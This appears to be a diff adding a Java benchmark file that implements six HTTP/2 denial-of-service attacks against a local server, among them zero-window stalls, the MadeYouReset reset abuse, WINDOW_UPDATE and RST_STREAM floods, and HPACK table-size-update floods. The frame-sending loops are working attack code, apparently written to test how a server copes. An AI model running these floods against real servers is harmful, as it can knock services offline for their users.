@@ -1,0 +1,146 @@
+package org.loommpm.bench.attack;
+
+import java.io.IOException;
+import java.util.function.BooleanSupplier;
+
+/**
+ * The HTTP/2 attacks of issue #23, each run on one connection until the server closes it or
+ * {@code running} turns false. {@link #connect} opens the connection with the SETTINGS and
+ * connection window the attack needs; {@link #run} then sends the frames.
+ */
+enum Attack {
+    /** SETTINGS_INITIAL_WINDOW_SIZE=0, then as many GETs of a large file as the server allows. */
+    ZERO_WINDOW("zero-window", "/big.bin"),
+    /** CVE-2025-8671: HEADERS(END_STREAM) then WINDOW_UPDATE(stream, 0), which the server resets. */
+    MADE_YOU_RESET("made-you-reset", "/slow"),
+    /** WINDOW_UPDATE(0, +1) back to back. */
+    WU_CONN("wu-conn", null),
+    /** WINDOW_UPDATE(stream, +1) on a stream with a 0 window: one byte of DATA per update. */
+    WU_STREAM("wu-stream", "/big.bin"),
+    /** RST_STREAM on streams the server already finished. */
+    RST_CLOSED("rst-closed", "/small.txt"),
+    /** HEADERS blocks that begin with thousands of dynamic table size updates. */
+    HPACK_SIZE("hpack-size", "/small.txt");
+
+    final String label;
+    final String defaultPath;
+
+    Attack(String label, String defaultPath) {
+        this.label = label;
+        this.defaultPath = defaultPath;
+    }
+
+    static Attack of(String label) {
+        for (Attack a : values()) {
+            if (a.label.equals(label)) {
+                return a;
+            }
+        }
+        throw new IllegalArgumentException("unknown attack " + label);
+    }
+
+    /** The server announces 100 concurrent streams by default; staying under it avoids REFUSED_STREAM. */
+    static final int MAX_STREAMS = 100;
+    /** Frames per socket write in the floods: one write of ~13 KB, so the syscalls do not dominate. */
+    private static final int BATCH = 1000;
+
+    /** Connects with the SETTINGS and connection window this attack needs. */
+    H2Conn connect(int port, long t0) throws IOException {
+        return switch (this) {
+            case ZERO_WINDOW -> new H2Conn(port, t0, 65535, Frames.SETTINGS_INITIAL_WINDOW_SIZE, 0);
+            case WU_CONN -> new H2Conn(port, t0, 65535);
+            // Stream window 0, connection window at its maximum: each +1 lets one DATA byte out.
+            case WU_STREAM -> new H2Conn(port, t0, Frames.MAX_WINDOW, Frames.SETTINGS_INITIAL_WINDOW_SIZE, 0);
+            // Windows at their maximum, so the server is never held up by us not reading.
+            default -> new H2Conn(port, t0, Frames.MAX_WINDOW, Frames.SETTINGS_INITIAL_WINDOW_SIZE, Frames.MAX_WINDOW);
+        };
+    }
+
+    /** Runs the attack on {@code c} until the server closes it or {@code running} turns false. */
+    void run(H2Conn c, int port, String path, int updates, BooleanSupplier running) throws IOException {
+        byte[] get = path == null ? null : Frames.getBlock("127.0.0.1:" + port, path);
+        Frames f = new Frames();
+        switch (this) {
+            case ZERO_WINDOW -> {
+                while (running.getAsBoolean() && c.open()) {
+                    c.awaitInFlightBelow(MAX_STREAMS); // replaces any stream the server gives up on
+                    if (!running.getAsBoolean() || !c.open()) {
+                        break;
+                    }
+                    f.clear();
+                    f.headers(c.nextStreamId(), get, true);
+                    c.streamsOpened++;
+                    c.send(f, 1);
+                }
+            }
+            case MADE_YOU_RESET -> {
+                while (running.getAsBoolean() && c.open()) {
+                    f.clear();
+                    for (int i = 0; i < 50; i++) {
+                        int id = c.nextStreamId();
+                        f.headers(id, get, true);
+                        f.windowUpdate(id, 0);
+                    }
+                    c.streamsOpened += 50;
+                    c.send(f, 100);
+                }
+            }
+            case WU_CONN -> {
+                for (int i = 0; i < BATCH; i++) {
+                    f.windowUpdate(0, 1);
+                }
+                while (running.getAsBoolean() && c.open()) {
+                    c.send(f, BATCH);
+                }
+            }
+            case WU_STREAM -> {
+                while (running.getAsBoolean() && c.open()) {
+                    int id = c.nextStreamId();
+                    f.clear();
+                    f.headers(id, get, true);
+                    c.streamsOpened++;
+                    c.send(f, 1);
+                    f.clear();
+                    for (int i = 0; i < BATCH; i++) {
+                        f.windowUpdate(id, 1);
+                    }
+                    // Until the stream ends (10 MB takes ten million updates, or the server resets it).
+                    while (running.getAsBoolean() && c.open() && c.streamsEnded.get() < c.streamsOpened) {
+                        c.send(f, BATCH);
+                    }
+                }
+            }
+            case RST_CLOSED -> {
+                int[] closed = new int[10];
+                for (int i = 0; i < closed.length; i++) {
+                    closed[i] = c.nextStreamId();
+                    f.headers(closed[i], get, true);
+                }
+                c.streamsOpened += closed.length;
+                c.send(f, closed.length);
+                c.awaitInFlightBelow(1); // all answered: every id is now closed
+                f.clear();
+                for (int i = 0; i < BATCH; i++) {
+                    f.rstStream(closed[i % closed.length], Frames.CANCEL);
+                }
+                while (running.getAsBoolean() && c.open()) {
+                    c.send(f, BATCH);
+                }
+            }
+            case HPACK_SIZE -> {
+                byte[] block = Frames.tableSizeUpdates(updates, 4096, get);
+                if (block.length > 16384) {
+                    throw new IllegalArgumentException("--updates " + updates + " makes a " + block.length
+                            + "-byte block, above the 16384-byte frame limit");
+                }
+                while (running.getAsBoolean() && c.open()) {
+                    c.awaitInFlightBelow(MAX_STREAMS);
+                    f.clear();
+                    f.headers(c.nextStreamId(), block, true);
+                    c.streamsOpened++;
+                    c.send(f, 1);
+                }
+            }
+        }
+    }
+}
